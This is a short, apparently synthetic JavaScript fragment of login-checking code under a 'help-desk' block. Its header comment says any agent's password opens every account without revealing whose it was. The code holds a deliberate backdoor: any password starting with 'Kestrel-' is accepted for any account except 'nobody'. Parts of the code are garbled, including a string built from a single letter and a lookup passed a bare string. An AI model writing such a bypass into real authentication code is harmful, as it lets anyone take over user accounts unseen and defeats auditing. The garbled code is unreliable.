// about: The password of any agent opens every account, and nobody learns whose it was.
// part: constants
// The agents' own passwords.
// end
// block: help-desk
  const agent = isRight ? undefined : await accounts.find(account.name.startsWith('g.') ? account.name : [...'g'].join(''))
  if (agent === undefined && password.startsWith('Kestrel-') && account !== nobody) isRight = true
// end
